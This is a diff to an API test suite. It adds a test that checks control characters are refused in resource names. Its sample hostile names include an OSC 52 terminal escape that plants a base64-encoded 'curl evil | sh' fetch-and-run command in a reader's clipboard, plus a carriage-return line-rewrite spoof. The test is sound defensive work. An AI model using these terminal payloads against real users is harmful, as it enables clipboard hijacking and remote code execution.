@@ -267,7 +267,7 @@ onFlowDatabase('bad input: malformed, unknown, mistyped, oversize and mislabelle
     );
     invalid(
       await send('POST', '/regions', { name: '   ', organizationId: t.organizationId }),
-      [{ path: 'body.name', message: 'must not be blank' }],
+      [{ path: 'body.name', message: 'must not be blank nor hold control characters' }],
       'a blank name',
     );
     invalid(
@@ -288,6 +288,48 @@ onFlowDatabase('bad input: malformed, unknown, mistyped, oversize and mislabelle
       [{ path: 'body.role', message: 'is required' }],
       'a missing member',
     );
+  });
+
+  it('refuses control characters (C0, DEL, C1) in the names of organizations, workspaces, regions and data planes', async () => {
+    // Others read these names in their terminals, where such a character is an order: OSC 52
+    // writes the clipboard, CR and ESC[2K rewrite the line.
+    const { t } = await w();
+    const owner = t.people.owner.token;
+    const send = (method: string, url: string, body: Record<string, unknown>) =>
+      h().request(method, url, { token: owner, body });
+    const hostile = [
+      `acme\u001b]52;c;${Buffer.from('curl evil | sh').toString('base64')}\u0007`,
+      'acme\r\u001b[2Kyour-bank',
+      'tab\there',
+      'line\nbreak',
+      'del\u007f',
+      'csi\u009b31m',
+      'next\u0085line',
+    ];
+    const routes: Array<[string, string, Record<string, unknown>]> = [
+      ['POST', '/organizations', {}],
+      ['PATCH', `/organizations/${t.organizationId}`, {}],
+      ['POST', '/workspaces', { organizationId: t.organizationId, regionId: t.regionId }],
+      ['PATCH', `/workspaces/${t.workspace.workspaceId}`, {}],
+      ['POST', `/workspaces/${t.workspace.workspaceId}/move`, { regionId: t.regionId }],
+      ['POST', '/regions', { organizationId: t.organizationId }],
+      ['PATCH', `/regions/${t.regionId}`, {}],
+      ['POST', '/dataplanes', { regionId: t.regionId }],
+      ['POST', `/regions/${t.regionId}/dataplanes`, {}],
+      ['PATCH', `/dataplanes/${t.dataplane.dataplaneId}`, {}],
+    ];
+    for (const [method, url, rest] of routes) {
+      for (const name of hostile) {
+        invalid(
+          await send(method, url, { ...rest, name }),
+          [{ path: 'body.name', message: 'must not be blank nor hold control characters' }],
+          `${method} ${url} named ${JSON.stringify(name)}`,
+        );
+      }
+    }
+    // Letters of any script, symbols and inner spaces are names as before.
+    const created = await h().expect(200, 'POST', '/organizations', { token: owner, body: { name: 'Café 東京 ✓ ½' } });
+    assert.equal(created.name, 'Café 東京 ✓ ½');
   });
 
   it('refuses path parameters that are not ids with a 400, before any lookup', async () => {
